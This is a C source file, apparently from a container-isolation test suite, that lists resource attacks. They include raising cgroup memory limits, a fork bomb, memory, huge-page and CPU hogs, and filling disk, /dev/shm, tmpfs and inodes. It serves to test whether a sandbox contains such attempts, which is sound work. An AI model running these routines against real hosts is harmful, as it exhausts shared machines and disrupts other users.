/* The machine's memory, time, processes and disk. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { MIB = 1 << 20 };

/* 16: an attacker who can write to the files of a cgroup sets its limits. */
static int raise_limit(void)
{
    if (overwrite(host.argument, "max") == 0 || overwrite(host.argument, "-1") == 0)
        return 0; /* this is outside of any container */
    if (mount("cgroup", "mnt", "cgroup2", 0, NULL) == 0 && overwrite("mnt/memory.max", "max") == 0)
        return 0;
    if (mount("cgroup", "mnt", "cgroup", 0, "memory") < 0)
        return -1;
    overwrite("mnt/memory.memsw.limit_in_bytes", "-1"); /* it must not be below the other */
    return overwrite("mnt/memory.limit_in_bytes", "-1");
}

/* Starts a child that does something until it is killed, or until its parent has ended. */
static pid_t start(void (*act)(void))
{
    pid_t child = fork();

    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        act();
        _exit(0);
    }
    return child;
}

static void wait_for_ever(void)
{
    for (;;)
        pause();
}

/* 28: each process needs a number and kernel memory. Without both, nobody can start a process. */
static int fork_bomb(void)
{
    enum { MORE_THAN_A_CONTAINER_NEEDS = 300 };

    for (int i = 0; i < MORE_THAN_A_CONTAINER_NEEDS; i++)
        if (start(wait_for_ever) < 0)
            return -1;
    return 0;
}

static void use_memory(void)
{
    enum { MORE_THAN_A_CONTAINER_NEEDS = 640 };

    for (int i = 0; i < MORE_THAN_A_CONTAINER_NEEDS; i++) {
        char *piece = mmap(NULL, MIB, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

        if (piece == MAP_FAILED)
            _exit(errno);
        memset(piece, 1, MIB);
    }
}

/* 29: when memory runs out, the kernel kills processes, and not only those that took it. */
static int memory_hog(void)
{
    int status;

    if (waitpid(start(use_memory), &status, 0) < 0)
        return -1;
    if (WIFSIGNALED(status))
        return stopped("SIGKILL");
    errno = WEXITSTATUS(status);
    return errno ? -1 : 0;
}

/* 29: huge pages are the host's. Few machines have a limit for them. The first touch takes one. */
static int huge_pages(void)
{
    enum { HUGE = MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB | MAP_NORESERVE, SIZE = 2 * MIB };

    return mmap(NULL, SIZE, PROT_READ | PROT_WRITE, HUGE, -1, 0) == MAP_FAILED ? -1 : 0;
}

static double seconds(clockid_t clock)
{
    struct timespec now;

    clock_gettime(clock, &now);
    return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static void use_processor(void)
{
    double end = seconds(CLOCK_MONOTONIC) + 1;

    while (seconds(CLOCK_MONOTONIC) < end)
        ;
}

/* Returns how many processors two children had. */
static double processors_used(void)
{
    double begin = seconds(CLOCK_MONOTONIC), used = 0;
    struct rusage usage;

    start(use_processor);
    start(use_processor);
    for (int i = 0; i < 2; i++)
        if (wait4(-1, NULL, 0, &usage) > 0)
            used += (double)usage.ru_utime.tv_sec + (double)usage.ru_utime.tv_usec / 1e6 +
                    (double)usage.ru_stime.tv_sec + (double)usage.ru_stime.tv_usec / 1e6;
    return used / (seconds(CLOCK_MONOTONIC) - begin);
}

/* 30: it takes more than one processor's time. Other processes may disturb it once or twice. */
static int cpu_hog(void)
{
    if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
        return not_here("there is but one processor");
    for (int i = 0; i < 3; i++)
        if (processors_used() > 1.5)
            return 0;
    return stopped("throttled");
}

static int write_pieces(const char *path, int pieces)
{
    static char piece[MIB];
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);

    if (fd < 0)
        return -1;
    for (int i = 0; i < pieces; i++)
        if (write(fd, piece, MIB) < MIB)
            return -1;
    return close(fd);
}

/* 38: a file written inside is on the host's disk, and others need that disk. */
static int fill_disk(void)
{
    return write_pieces("big", 48);
}

/* 38: what is in a tmpfs is in the host's memory. Where there is no such folder, we make one. */
static int fill_shm(void)
{
    mkdir("dev/shm", 0700);
    return write_pieces("dev/shm/big", 48);
}

/* 38: each of them alone is within the limit. */
static int fill_tmpfs(void)
{
    mkdir("one", 0700);
    mkdir("two", 0700);
    return write_pieces("one/big", 12) < 0 ? -1 : write_pieces("two/big", 12);
}

/* 38: a file without content is a piece of the kernel's memory, or of the disk's table of files. */
static int fill_files(void)
{
    for (int i = 0; i < 5000; i++)
        if (opened(open(format("tmp/%d", i), O_WRONLY | O_CREAT, 0600)) < 0)
            return -1;
    return 0;
}

const struct attack resource_attacks[] = {
    {"raise_limit", raise_limit},
    {"fork_bomb", fork_bomb},
    {"memory_hog", memory_hog},
    {"huge_pages", huge_pages},
    {"cpu_hog", cpu_hog},
    {"fill_disk", fill_disk},
    {"fill_shm", fill_shm},
    {"fill_tmpfs", fill_tmpfs},
    {"fill_files", fill_files},
    {"fill_kept", fill_disk},
    {0},
};
